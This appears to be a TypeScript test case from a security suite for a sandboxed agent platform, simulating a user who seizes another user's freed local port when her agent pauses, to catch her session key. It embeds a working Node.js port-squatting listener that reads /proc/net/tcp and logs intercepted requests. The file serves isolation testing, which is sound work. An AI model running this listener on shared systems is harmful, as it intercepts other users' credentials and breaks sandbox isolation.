import { until } from '../../support/until.js';
import { shell } from '../../system/journeys/support/script.js';
import { type Attack, held, notPromised } from '../attack.js';

/** Takes every port that becomes free, and prints what it is sent there. */
const LIE_IN_WAIT = `
import { readFileSync } from 'node:fs';
import { createServer } from 'node:net';
const taken = new Set();
const known = new Map();
function look() {
  const now = new Set();
  for (const file of ['/proc/net/tcp', '/proc/net/tcp6']) {
    for (const line of readFileSync(file, 'utf8').split('\\n').slice(1)) {
      const fields = line.trim().split(/\\s+/);
      if (fields[3] === '0A') {
        const port = parseInt(fields[1].split(':')[1], 16);
        now.add(port);
        known.set(port, true);
      }
    }
  }
  for (const port of known.keys()) {
    if (!now.has(port) && !taken.has(port)) take(port);
  }
  setImmediate(look);
}
function take(port) {
  taken.add(port);
  const server = createServer((socket) => {
    socket.on('error', () => socket.destroy());
    socket.on('data', (data) => {
      console.log('HEARD ' + JSON.stringify(data.toString('latin1')));
      socket.end('HTTP/1.1 200 OK\\r\\nContent-Type: application/json\\r\\nContent-Length: 2\\r\\n\\r\\n{}');
    });
  });
  server.on('error', (error) => { taken.delete(port); console.log('MISSED ' + port + ' ' + error.code); });
  server.listen(port, '127.0.0.1', () => console.log('TOOK ' + port));
}
look();
console.log('WAITING');
`;

export const takePortAtPause: Attack = {
  name: 'take-port-at-pause',
  finding: 1,
  what: "Bob takes the port of Alice's agent server the moment she pauses, and listens for her key.",
  expected: {
    process: held('no port of Alice is visible to Bob, and nobody sends him anything'),
    unwrapped: notPromised('sandboxes share the ports of the machine'),
    docker: held('no port of Alice is visible to Bob, and nobody sends him anything'),
  },
  run: async (world) => {
    const { alice, bob } = world;
    const key = await alice.sessionKey();
    await alice.client.say(alice.conversationId, shell('sleep 20'));
    await alice.client.conversationIn(alice.conversationId, 'running');
    const trap = await bob.nodeInBackground(LIE_IN_WAIT);
    await until(async () => (await trap.output()).includes('WAITING'));
    await world.pauseWhole(alice);
    await alice.resume();
    const lines = (await trap.output()).split('\n');
    await trap.stop();
    const count = (word: string) => lines.filter((line) => line.startsWith(word)).length;
    const gotKey = lines.some((line) => line.includes(key));
    return {
      held: count('HEARD') === 0 && !gotKey,
      seen: `Bob took ${count('TOOK')} ports and was sent ${count('HEARD')} requests, Alice's key ${gotKey ? 'in them' : 'in none'}`,
    };
  },
};
